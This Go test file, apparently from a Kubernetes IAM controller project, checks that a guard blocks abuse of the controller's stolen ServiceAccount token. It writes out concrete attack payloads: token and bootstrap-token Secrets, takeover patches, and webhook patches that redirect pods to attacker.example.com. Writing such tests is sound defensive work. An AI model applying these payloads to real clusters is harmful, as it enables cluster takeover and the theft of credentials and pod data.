package attacks

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"kube-aws-iam-controller/test/cluster"
	"kube-aws-iam-controller/test/kit"
)

const byControllerGuard = "the guard, which limits the controller's ServiceAccount to what the controller does"

// thief is a client with the token of the controller's ServiceAccount.
func (a *attacker) thief() kubernetes.Interface {
	a.t.Helper()
	config, err := a.ServiceAccountConfig(a.t.Context(), kit.Namespace, kit.Account)
	require.NoError(a.t, err)
	client, err := kubernetes.NewForConfig(config)
	require.NoError(a.t, err)
	return client
}

// steal has the thief create a Secret, without storing it.
func (a *attacker) steal(namespace string, secret *corev1.Secret) error {
	a.t.Helper()
	_, err := a.thief().CoreV1().Secrets(namespace).Create(a.t.Context(), secret,
		metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}, FieldManager: manager})
	return err
}

// patchStolen has the thief patch a Secret or a ServiceAccount of the attacker's namespace.
func (a *attacker) patchStolen(resource, name, patch string) error {
	a.t.Helper()
	return a.thief().CoreV1().RESTClient().Patch(types.MergePatchType).Namespace(a.namespace).Resource(resource).Name(name).
		Param("fieldManager", manager).Body([]byte(patch)).Do(a.t.Context()).Error()
}

// belonging is a Secret that is the controller's but for its type and data.
func (a *attacker) belonging(kind corev1.SecretType, data map[string]string) *corev1.Secret {
	a.t.Helper()
	owner, err := a.Client().CoreV1().ServiceAccounts(a.namespace).Get(a.t.Context(), "app", metav1.GetOptions{})
	require.NoError(a.t, err)
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{
			Name: "app.aws-iam", Labels: ourLabels, Annotations: claims("x", soon()),
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "v1", Kind: "ServiceAccount", Name: "app", UID: owner.UID}},
		},
		Type: kind, StringData: data,
	}
}

// tokenOf is a Secret that the API server's controllers put a token of a ServiceAccount into.
func tokenOf(account string, labels map[string]string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "stolen", Labels: labels, Annotations: map[string]string{corev1.ServiceAccountNameKey: account}},
		Type:       corev1.SecretTypeServiceAccountToken,
	}
}

// others makes a Secret of somebody else's.
func (a *attacker) others() {
	a.t.Helper()
	require.NoError(a.t, a.plant(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "others"}, StringData: map[string]string{"password": "x"}}, "kubectl"))
}

// refused shows that the guard refused what the thief asked for, by its own decision.
func (a *attacker) refused(err error) {
	a.t.Helper()
	a.forbidden(err)
	require.ErrorContains(a.t, err, "denied request: kube-aws-iam-controller may not ")
	require.ErrorContains(a.t, err, "if not, somebody else has its token")
}

// thiefAttacks are tried with the controller's rights. Those on tokens are what makes its token one of the whole cluster.
var thiefAttacks = []attack{
	{
		actor: thief, intent: "get the token of another ServiceAccount, by a token Secret", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			for _, labels := range []map[string]string{nil, ourLabels, {"heritage": manager, "type": "awsiamrole"}} {
				a.refused(a.steal(metav1.NamespaceSystem, tokenOf("clusterrole-aggregation-controller", labels)))
			}
		},
	},
	{
		actor: thief, intent: "get the token of a ServiceAccount, by a token Secret in place of the controller's own", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.ask("app")
			token := a.belonging(corev1.SecretTypeServiceAccountToken, nil)
			token.Annotations[corev1.ServiceAccountNameKey] = "app"
			a.refused(a.steal(a.namespace, token))
			certificate := tokenOf("clusterrole-aggregation-controller", nil)
			certificate.Name = "kube-aws-iam-controller-webhook"
			a.refused(a.steal(metav1.NamespaceSystem, certificate))
		},
	},
	{
		actor: thief, intent: "join the cluster as a node, by a bootstrap token", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.refused(a.steal(metav1.NamespaceSystem, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-abcdef", Labels: ourLabels}, Type: corev1.SecretTypeBootstrapToken,
				StringData: map[string]string{
					"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true",
					"auth-extra-groups": "system:bootstrappers:x",
				},
			}))
		},
	},
	{
		actor: thief, intent: "create the webhook's certificate Secret in another namespace, or with keys of another program", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			tls := func(data map[string]string) *corev1.Secret {
				return &corev1.Secret{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-aws-iam-controller-webhook"}, Type: corev1.SecretTypeTLS, StringData: data,
				}
			}
			both := map[string]string{"tls.crt": "x", "tls.key": "x"}
			a.refused(a.steal(a.namespace, tls(both)))
			both["config.yaml"] = "x"
			a.refused(a.steal(metav1.NamespaceSystem, tls(both)))
		},
	},
	{
		actor: thief, intent: "overwrite a foreign Secret, or take it over with labels and an owner first", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.ask("app")
			a.others()
			for _, patch := range []string{
				`{"stringData":{"password":"y"}}`, `{"data":null}`, `{"immutable":true}`,
				`{"metadata":{"labels":{"heritage":"` + manager + `"}}}`,
				`{"metadata":{"labels":{"heritage":"` + manager + `","type":"awsiamrole"}}}`,
				`{"metadata":{"annotations":{"iam.amazonaws.com/spec-hash":"x"}}}`,
				`{"metadata":{"ownerReferences":[{"apiVersion":"zalando.org/v1","kind":"AWSIAMRole","name":"others","uid":"x"}]}}`,
			} {
				a.refused(a.patchStolen("secrets", "others", patch))
			}
		},
	},
	{
		actor: thief, intent: "delete a foreign Secret", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.others()
			a.refused(a.thief().CoreV1().Secrets(a.namespace).Delete(a.t.Context(), "others", metav1.DeleteOptions{}))
		},
	},
	{
		actor: thief, intent: "plant a Secret that another program treats as its own", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.ask("app")
			foreign := map[string]string{"name": "x", "server": "https://attacker.example.com", "config": "{}"}
			a.refused(a.steal(a.namespace, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "cluster", Labels: map[string]string{"argocd.argoproj.io/secret-type": "cluster"}}, StringData: foreign,
			}))
			a.refused(a.steal(a.namespace, a.belonging(corev1.SecretTypeOpaque, foreign)))
			for _, change := range []func(*corev1.Secret){
				func(s *corev1.Secret) { s.OwnerReferences = nil },
				func(s *corev1.Secret) { s.Name = "another" },
				func(s *corev1.Secret) { s.OwnerReferences[0].Kind, s.OwnerReferences[0].Name = "Pod", "app" },
				func(s *corev1.Secret) { s.Labels = map[string]string{"heritage": manager} },
				func(s *corev1.Secret) { s.Labels = map[string]string{"argocd.argoproj.io/secret-type": "cluster"} },
				func(s *corev1.Secret) { s.Annotations["replicator.example.com/to"] = "*" },
				func(s *corev1.Secret) { s.Finalizers = []string{"example.com/stay"} },
			} {
				secret := a.belonging(corev1.SecretTypeOpaque, map[string]string{"credentials": "x"})
				secret.Labels = map[string]string{"app.kubernetes.io/managed-by": manager, "iam.amazonaws.com/source": "serviceaccount"}
				require.NoError(a.t, a.steal(a.namespace, secret), "as the controller makes one")
				change(secret)
				a.refused(a.steal(a.namespace, secret))
			}
		},
	},
	{
		actor: thief, intent: "turn one of the controller's Secrets into something else", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.ask("app", "role", a.own("app"))
			a.got("app.aws-iam")
			for _, patch := range []string{
				`{"stringData":{"config":"x"}}`, `{"immutable":true}`, `{"metadata":{"finalizers":["example.com/stay"]}}`,
				`{"metadata":{"labels":{"app.kubernetes.io/managed-by":null}}}`, `{"metadata":{"labels":{"argocd.argoproj.io/secret-type":"cluster"}}}`,
				`{"metadata":{"annotations":{"replicator.example.com/to":"*"}}}`, `{"metadata":{"ownerReferences":null}}`,
				`{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Pod","name":"app","uid":"x"}]}}`,
			} {
				a.refused(a.patchStolen("secrets", "app.aws-iam", patch))
			}
		},
	},
	{
		actor: thief, intent: "make another ServiceAccount ask for a role, give its pods other Secrets, or block its deletion", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.ask("app")
			for _, patch := range []string{
				`{"metadata":{"annotations":{"iam.amazonaws.com/role":"x"}}}`, `{"metadata":{"annotations":{"eks.amazonaws.com/role-arn":"x"}}}`,
				`{"metadata":{"labels":{"a":"b"}}}`, `{"metadata":{"labels":{"iam.amazonaws.com/x":"y"}}}`,
				`{"metadata":{"finalizers":["example.com/stay"]}}`, `{"imagePullSecrets":[{"name":"x"}]}`, `{"secrets":[{"name":"x"}]}`,
				`{"automountServiceAccountToken":true}`, `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Pod","name":"app","uid":"x"}]}}`,
			} {
				a.refused(a.patchStolen("serviceaccounts", "app", patch))
			}
		},
	},
	{
		actor: thief, intent: "record an event in the name of the kubelet", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			_, err := a.thief().CoreV1().Events(a.namespace).Create(a.t.Context(), &corev1.Event{
				ObjectMeta: metav1.ObjectMeta{Name: "e", Namespace: a.namespace}, Source: corev1.EventSource{Component: "kubelet"},
				InvolvedObject: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: a.namespace, Name: "p"}, Reason: "Evicted", Type: corev1.EventTypeWarning,
			}, metav1.CreateOptions{})
			a.refused(err)
		},
	},
	{
		actor: thief, intent: "keep another component of the control plane from leading, by its Lease", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			now := metav1.NewMicroTime(time.Now())
			_, err := a.thief().CoordinationV1().Leases(metav1.NamespaceSystem).Create(a.t.Context(), &coordinationv1.Lease{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-scheduler"},
				Spec:       coordinationv1.LeaseSpec{HolderIdentity: new("nobody"), LeaseDurationSeconds: new(int32(3600)), RenewTime: &now, AcquireTime: &now},
			}, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
			a.refused(err)
		},
	},
	{
		actor: thief, intent: "have every new pod sent to the attacker's server, by the webhook's configuration", guard: true,
		by: byControllerGuard + "; with webhook-static or admission-policy, RBAC",
		try: func(a *attacker) {
			root, err := cluster.Root()
			require.NoError(a.t, err)
			for _, file := range []string{"rbac.yaml", "webhook.yaml"} { // under a name that matches no pod
				text, err := os.ReadFile(filepath.Join(root, "manifests", "components", "webhook", file))
				require.NoError(a.t, err)
				manifest := strings.ReplaceAll(string(text), "operator: NotIn, values: [kube-system]", "operator: In, values: [nobody]")
				_, err = a.KubectlInput(a.t.Context(), strings.NewReader(manifest), "apply", "-f", "-")
				require.NoError(a.t, err)
				a.t.Cleanup(func() {
					_, err := a.KubectlInput(context.Background(), strings.NewReader(manifest), "delete", "-f", "-")
					assert.NoError(a.t, err)
				})
			}
			configurations := a.thief().AdmissionregistrationV1().MutatingWebhookConfigurations()
			patch := func(ctx context.Context, patch string) error {
				_, err := configurations.Patch(ctx, "kube-aws-iam-controller-webhook", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
				return err
			}
			for _, path := range []string{"/mutate-pods", "/mutate-pods/secret"} {
				a.eventually(func(ctx context.Context) error { // until RBAC knows of the right
					return patch(ctx, `[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"eA=="},{"op":"add","path":"/webhooks/0/clientConfig/service/path","value":"`+path+`"}]`)
				})
			}
			for _, change := range []string{
				`{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://attacker.example.com/"}}`,
				`{"op":"add","path":"/webhooks/0/clientConfig/service/name","value":"attacker"}`,
				`{"op":"add","path":"/webhooks/0/clientConfig/service/namespace","value":"` + a.namespace + `"}`,
				`{"op":"add","path":"/webhooks/0/clientConfig/service/port","value":8443}`,
				`{"op":"add","path":"/webhooks/0/clientConfig/service/path","value":"/metrics"}`,
				`{"op":"add","path":"/webhooks/0/failurePolicy","value":"Ignore"}`,
				`{"op":"add","path":"/webhooks/0/namespaceSelector","value":{}}`,
				`{"op":"remove","path":"/webhooks/0/objectSelector"}`,
				`{"op":"add","path":"/webhooks/0/rules/-","value":{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}}`,
				`{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"x","expression":"false"}]}`,
				`{"op":"add","path":"/webhooks/0/timeoutSeconds","value":30}`,
				`{"op":"remove","path":"/webhooks/0"}`,
				`{"op":"copy","from":"/webhooks/0","path":"/webhooks/1"},{"op":"add","path":"/webhooks/1/name","value":"x.example.com"}`,
				`{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"Node","name":"n","uid":"x"}]}`,
				`{"op":"add","path":"/metadata/annotations","value":{"cert-manager.io/inject-ca-from":"x/y"}}`,
			} {
				a.refused(patch(a.t.Context(), "["+change+"]"))
			}
		},
	},
	{
		actor: thief, intent: "ask for tokens, run pods, or change rights, admission and namespaces", by: "RBAC: the controller has no such right",
		try: func(a *attacker) {
			token, err := a.ServiceAccountKubeconfig(a.t.Context(), kit.Namespace, kit.Account)
			require.NoError(a.t, err)
			for _, what := range [][]string{
				{"create", "serviceaccounts/token"}, {"create", "pods"}, {"create", "pods/ephemeralcontainers"}, {"create", "pods/exec"},
				{"create", "clusterrolebindings"}, {"impersonate", "users"}, {"update", "namespaces"}, {"update", "secrets"}, {"create", "serviceaccounts"},
				{"delete", "validatingadmissionpolicies"}, {"update", "awsiamroles"}, {"create", "certificatesigningrequests"},
			} {
				_, err = a.Kubectl(a.t.Context(), append([]string{"--kubeconfig", token, "auth", "can-i", "-A"}, what...)...)
				assert.Error(a.t, err, what)
			}
		},
	},
	{
		actor: thief, intent: "pass off an AWSIAMRole's Secret as a ServiceAccount's, by its name", by: byControllerGuard, guard: true,
		try: func(a *attacker) {
			a.ask("app", "role", a.own("app"))
			a.got("app.aws-iam")
			a.refused(a.patchStolen("secrets", "app.aws-iam", `{"metadata":{"labels":{"iam.amazonaws.com/source":null,"heritage":"`+manager+`","type":"awsiamrole"}}}`))
		},
	},
	{
		actor: thief, intent: "take away the credentials that pods use", by: "the controller, which creates the Secret again at once",
		try: func(a *attacker) {
			a.ask("app", "role", a.own("app"))
			before := a.got("app.aws-iam")
			require.NoError(a.t, a.thief().CoreV1().Secrets(a.namespace).Delete(a.t.Context(), "app.aws-iam", metav1.DeleteOptions{}))
			a.eventually(func(ctx context.Context) error {
				after, err := a.Client().CoreV1().Secrets(a.namespace).Get(ctx, "app.aws-iam", metav1.GetOptions{})
				if err == nil && after.UID == before.UID {
					err = context.DeadlineExceeded
				}
				return err
			})
		},
	},
}
